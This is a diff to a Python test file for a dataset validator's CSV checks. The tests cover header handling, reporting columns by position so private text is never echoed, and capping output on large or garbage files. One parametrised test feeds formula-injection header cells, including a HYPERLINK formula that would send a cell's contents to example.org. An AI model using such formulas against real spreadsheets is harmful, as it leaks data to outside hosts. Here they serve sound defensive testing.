@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import copy
 import hashlib
+import re
 
 import numpy as np
 import pandas as pd
 import pytest
 from conftest import problems_in, with_cell, write_csv_tables
 
+from tahsb_analysis.input import problems as v_problems
 from tahsb_analysis.input import validation as v
 from tahsb_analysis.input.cohort import Cohort, missing_column
 from tahsb_analysis.input.readers import read_table_as_text
@@ -71,11 +73,12 @@ def test_missing_required_column_is_named(tmp_path, frames):
                         "learning_disability", v.MISSING_COLUMN)
 
 
-def test_unknown_column_is_reported_with_the_closest_codebook_name(tmp_path, frames):
-    frames["case_file"]["Looked_After"] = "no"
+def test_unknown_column_is_named_by_position_with_the_closest_codebook_name(tmp_path, frames):
+    frames["case_file"]["Looked_After"] = "no"  # the 19th column of the file
     found = assert_only_problem(problems_in(tmp_path, frames), "case_file.csv", None,
-                                "Looked_After", v.UNKNOWN_COLUMN)
-    assert "did you mean looked_after?" in found["expected"]
+                                "column 19", v.UNKNOWN_COLUMN)
+    assert "did you mean looked_after?" in found["expected"]  # the codebook's word, not the file's
+    assert "Looked_After" not in found["expected"] + found["problem"]
 
 
 def test_column_name_given_twice_is_reported(tmp_path, frames):
@@ -374,7 +377,7 @@ def test_problems_in_different_files_are_all_reported_in_one_pass(tmp_path, fram
     changed["cases"]["postcode"] = "-"
     problems = problems_in(tmp_path, changed)
     assert {(file, row, column) for file, row, column, _ in located(problems)} == {
-        ("cases.csv", None, "postcode"),
+        ("cases.csv", None, "column 11"),  # the postcode column: named by position
         ("cases.csv", 5, "sex"),
         ("case_file.csv", 3, "cj_outcome"),
         ("behaviours.csv", 4, "setting"),
@@ -620,4 +623,246 @@ def test_semicolon_separated_file_gets_a_hint_about_commas(tmp_path, frames):
     problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
     unknown = problems[problems["problem"] == v.UNKNOWN_COLUMN]
     assert unknown["file"].tolist() == ["cases.csv"]
+    assert unknown["column"].tolist() == ["column 1"]
     assert "commas" in unknown["expected"].iloc[0]
+    # The codebook's names are all there, run together: none is reported missing as well.
+    assert v.MISSING_COLUMN not in problems["problem"].tolist()
+
+
+# --- a header cell is a value too -----------------------------------------------------------
+
+
+def without_header(path) -> list[str]:
+    """Drop the file's header row; return the cells of its first data row (now first row)."""
+    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
+    path.write_text("".join(lines[1:]), encoding="utf-8")
+    return lines[1].strip().split(",")
+
+
+def all_text(problems: pd.DataFrame) -> str:
+    return problems.astype(str).to_csv() + format_problems(problems)
+
+
+def test_missing_header_is_reported_once_and_no_cell_of_the_first_row_is_shown(tmp_path,
+                                                                               frames):
+    paths = write_csv_tables(tmp_path, frames)
+    first_row = without_header(paths["cases"])
+    problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
+    found = assert_only_problem(problems, "cases.csv", 1, "", v.HEADER_LOOKS_LIKE_DATA)
+    assert "case_id, cohort, data_origin" in found["expected"]
+    text = all_text(problems)
+    for cell in first_row:
+        if len(cell) > 2:  # "no" and "14" occur in any English text
+            assert cell not in text, cell
+
+
+def test_missing_header_below_blank_lines_is_reported_at_the_first_row_of_data(tmp_path,
+                                                                               frames):
+    paths = write_csv_tables(tmp_path, frames)
+    without_header(paths["behaviours"])
+    paths["behaviours"].write_text("\n\n" + paths["behaviours"].read_text(encoding="utf-8"),
+                                   encoding="utf-8")
+    problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
+    assert_only_problem(problems, "behaviours.csv", 3, "", v.HEADER_LOOKS_LIKE_DATA)
+
+
+def test_blank_lines_before_the_header_do_not_hide_the_file(tmp_path, frames):
+    paths = write_csv_tables(tmp_path, with_cell(frames, "cases", 4, "sex", "boy"))
+    for path in paths.values():
+        path.write_text("\n\n" + path.read_text(encoding="utf-8"), encoding="utf-8")
+    with pytest.raises(InputValidationError) as caught:
+        validate_cohort(paths)
+    # Row 4 of the table is line 6 of the file: two blank lines came first.
+    assert_only_problem(caught.value.problems, "cases.csv", 6, "sex", v.NOT_A_CODE)
+    paths = write_csv_tables(tmp_path / "valid", frames)
+    for path in paths.values():
+        path.write_text("\n\n" + path.read_text(encoding="utf-8"), encoding="utf-8")
+    assert validate_cohort(paths).sources["cases"]["rows"] == 6
+
+
+@pytest.mark.parametrize(("header", "problem"), [
+    ("=HYPERLINK(\"http://example.org/?\"&A,\"x\")", v.UNKNOWN_COLUMN),
+    ("=HYPERLINK(\"http://example.org/?\"&A2,\"x\")", v.DATA_LIKE_COLUMN),  # a digit
+    ("Notes about Jayden", v.UNKNOWN_COLUMN),
+    ("14", v.DATA_LIKE_COLUMN),
+    ("C099", v.DATA_LIKE_COLUMN),
+    ("female", v.DATA_LIKE_COLUMN),
+])
+def test_unexpected_header_cell_is_named_by_position_never_shown(tmp_path, frames, header,
+                                                                 problem):
+    frames["cases"][header] = "-"
+    problems = problems_in(tmp_path, frames)
+    assert_only_problem(problems, "cases.csv", None, "column 11", problem)
+    assert header not in all_text(problems)
+
+
+def test_column_without_a_name_is_named_by_position(tmp_path, frames):
+    paths = write_csv_tables(tmp_path, frames)
+    lines = paths["behaviours"].read_text(encoding="utf-8").splitlines()
+    paths["behaviours"].write_text("\n".join([lines[0] + ","] + [line + ",x" for line in lines[1:]])
+                                   + "\n", encoding="utf-8")
+    problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
+    assert_only_problem(problems, "behaviours.csv", None, "column 7", v.UNNAMED_COLUMN)
+
+
+def test_repeated_unknown_header_cell_is_named_by_position(tmp_path, frames):
+    paths = write_csv_tables(tmp_path, frames)
+    lines = paths["cases"].read_text(encoding="utf-8").splitlines()
+    paths["cases"].write_text(
+        "\n".join([lines[0] + ",Kayden,Kayden"] + [line + ",-,-" for line in lines[1:]]) + "\n",
+        encoding="utf-8")
+    problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
+    assert set(located(problems)) == {("cases.csv", None, "column 11", v.UNKNOWN_COLUMN),
+                                      ("cases.csv", None, "column 12", v.REPEATED_COLUMN),
+                                      ("cases.csv", None, "column 12", v.UNKNOWN_COLUMN)}
+    assert "Kayden" not in all_text(problems)
+
+
+def test_every_column_named_in_problems_is_a_codebook_name_or_a_position(tmp_path, frames,
+                                                                         codebook):
+    frames["cases"]["SW1A 1AA"] = "SW1A 1AA"
+    frames["cases"]["=1+1"] = "x"
+    frames["case_file"]["Looked After?"] = "no"
+    paths = write_csv_tables(tmp_path, frames)
+    without_header(paths["behaviours"])
+    problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
+    names = {n for table in codebook.tables.values() for n in table.field_names}
+    assert len(problems) >= 4
+    for column in problems["column"]:
+        assert column == "" or column in names or re.fullmatch(r"column \d+", column), column
+
+
+# --- bounded output -------------------------------------------------------------------------
+
+
+def many_cases(count: int) -> pd.DataFrame:
+    """`count` valid children outside the in-depth sample (no other table needs a row)."""
+    return pd.DataFrame({
+        "case_id": [f"X{i:06d}" for i in range(count)], "cohort": "ttp-2015",
+        "data_origin": "synthetic", "assessment_month": "2015-01", "sex": "male",
+        "age_at_referral": "14", "learning_disability": "no", "offline_hsb": "yes",
+        "ta_hsb": "no", "in_depth_sample": "no"})
+
+
+def test_a_problem_on_many_rows_lists_the_first_rows_and_counts_the_rest(tmp_path, frames):
+    frames["cases"] = pd.concat([frames["cases"], many_cases(500)], ignore_index=True)
+    frames["cases"].loc[6:, "sex"] = "boy"  # rows 8 to 507
+    problems = problems_in(tmp_path, frames)
+    assert problems["row"].tolist() == [8, 9, 10, 11]
+    assert set(problems["column"]) == {"sex"}
+    assert problems["problem"].tolist()[:3] == [v.NOT_A_CODE] * 3
+    assert problems["problem"].iloc[3] == (
+        f"{v.NOT_A_CODE}: and 497 more rows with this problem (rows 11, 12, 13 and 494 more)")
+
+
+def test_many_duplicate_ids_are_bounded_too(tmp_path, frames):
+    extra = many_cases(300)
+    extra["case_id"] = "C006"
+    frames["cases"] = pd.concat([frames["cases"], extra], ignore_index=True)
+    problems = problems_in(tmp_path, frames)
+    assert problems["problem"].tolist() == [
+        "duplicate of row 7: same case_id"] * 3 + [
+        "duplicate of an earlier row: same case_id: and 297 more rows with this problem "
+        "(rows 11, 12, 13 and 294 more)"]
+
+
+def test_problems_of_a_file_are_capped(tmp_path, frames):
+    # 180 unknown columns and 10 missing ones: 190 column problems, more than the cap allows.
+    letters = "abcdefghijklmnopqrstuvwxyz"
+    names = [f"heading_{letters[i // 26]}{letters[i % 26]}" for i in range(180)]
+    frames["cases"] = pd.DataFrame({name: ["a"] * 6 for name in names})
+    problems = problems_in(tmp_path, frames)
+    cases = problems[problems["file"] == "cases.csv"]
+    assert len(cases) == v_problems.MAX_PROBLEMS_PER_FILE + 1
+    assert cases["problem"].iloc[-1].startswith("... and 90 more problems in this file")
+    assert cases["problem"].iloc[0] == v.MISSING_COLUMN
+
+
+# --- a large file that is clearly not the table ---------------------------------------------
+
+
+def test_large_file_that_is_clearly_not_the_table_is_read_only_at_its_start(tmp_path, frames):
+    paths = write_csv_tables(tmp_path, frames)
+    with paths["cases"].open("w", encoding="utf-8") as handle:
+        for i in range(5000):
+            handle.write(f"QQ{i},zz{i},Jayden Smith,{i}\n")
+    with pytest.raises(InputValidationError) as caught:
+        validate_cohort(paths)
+    problems = caught.value.problems
+    assert located(problems)[:2] == [
+        ("cases.csv", None, "", v.NOT_THE_TABLE_HEADER.format(row=v.PROBE_LINES, table="cases")),
+        ("cases.csv", 1, "", v.HEADER_LOOKS_LIKE_DATA)]
+    assert int(problems["row"].max()) <= v.PROBE_LINES
+    # The other tables are not judged against a table that was not read whole.
+    assert set(problems["file"]) == {"cases.csv"}
+    assert "Jayden" not in str(caught.value)
+
+
+def test_large_file_whose_rows_break_most_cells_is_read_only_at_its_start(tmp_path, frames):
+    cases = many_cases(3000)
+    for column in cases.columns:
+        cases[column] = "?"
+    cases.loc[0] = frames["cases"].loc[0]  # one good row does not make it the table
+    frames["cases"] = cases
+    paths = write_csv_tables(tmp_path, frames)
+    with pytest.raises(InputValidationError) as caught:
+        validate_cohort(paths)
+    problems = caught.value.problems
+    stopped = problems[problems["problem"].str.startswith("file was read only to row")]
+    assert stopped["problem"].tolist() == [
+        v.NOT_THE_TABLE_ROWS.format(row=v.PROBE_LINES, first=2)]
+    assert int(problems["row"].max()) <= v.PROBE_LINES
+
+
+def test_large_valid_file_is_read_whole(tmp_path, frames):
+    frames["cases"] = pd.concat([frames["cases"], many_cases(2500)], ignore_index=True)
+    cohort = validate_cohort(write_csv_tables(tmp_path, frames))
+    assert len(cohort.cases) == 2506
+    frames["cases"].loc[2400, "sex"] = "boy"  # beyond the first look: still found
+    with pytest.raises(InputValidationError) as caught:
+        validate_cohort(write_csv_tables(tmp_path / "bad", frames))
+    assert_only_problem(caught.value.problems, "cases.csv", 2402, "sex", v.NOT_A_CODE)
+
+
+def test_garbage_after_a_good_start_stops_reading_at_the_first_garbage_piece(tmp_path, frames,
+                                                                             monkeypatch):
+    monkeypatch.setattr(v, "PIECE_LINES", 1500)  # pieces: rows 1-1000, 1001-2500, 2501-4000, ...
+    good = many_cases(1200)  # rows 2-1201
+    garbage = many_cases(5000).map(lambda cell: "Jayden?")  # rows 1202-6201
+    frames["cases"] = pd.concat([frames["cases"].iloc[:0], good, garbage], ignore_index=True)
+    frames["case_file"] = frames["case_file"].iloc[:0]
+    frames["behaviours"] = frames["behaviours"].iloc[:0]
+    with pytest.raises(InputValidationError) as caught:
+        validate_cohort(write_csv_tables(tmp_path, frames))
+    problems = caught.value.problems
+    cases = problems[problems["file"] == "cases.csv"]
+    assert cases["problem"].iloc[0] == v.NOT_THE_TABLE_ROWS.format(row=4000, first=2501)
+    assert int(cases["row"].max()) <= 4000  # nothing beyond the piece that was garbage
+    summary = cases[cases["column"].eq("sex")]["problem"].iloc[-1]
+    assert "and 2796 more rows" in summary  # rows 1202-4000: 2799 rows, three listed
+    assert "Jayden" not in str(caught.value)
+
+
+def test_coded_column_with_many_different_texts_stops_reading(tmp_path, frames):
+    cases = many_cases(3000)
+    cases["sex"] = [f"Jayden{i}" for i in range(3000)]  # 3000 different non-codes
+    frames["cases"] = pd.concat([frames["cases"], cases], ignore_index=True)
+    with pytest.raises(InputValidationError) as caught:
+        validate_cohort(write_csv_tables(tmp_path, frames))
+    problems = caught.value.problems
+    assert v.NOT_THE_TABLE_VALUES.format(row=v.PROBE_LINES, first=2, column="sex",
+                                         count=100) in problems["problem"].tolist()
+    assert int(problems["row"].max()) <= v.PROBE_LINES
+    assert "Jayden" not in str(caught.value)
+
+
+def test_a_few_wrong_codes_on_every_row_of_a_large_file_do_not_stop_reading(tmp_path, frames):
+    cases = many_cases(3000)
+    cases["sex"] = ["M", "F", "m"] * 1000  # one column in ten, three texts: a slip, not garbage
+    frames["cases"] = pd.concat([frames["cases"], cases], ignore_index=True)
+    with pytest.raises(InputValidationError) as caught:
+        validate_cohort(write_csv_tables(tmp_path, frames))
+    problems = caught.value.problems
+    assert not problems["problem"].str.startswith("file was read only").any()
+    assert problems["row"].tolist() == [8, 9, 10, 11]
+    assert problems["problem"].iloc[-1].endswith("(rows 11, 12, 13 and 2994 more)")
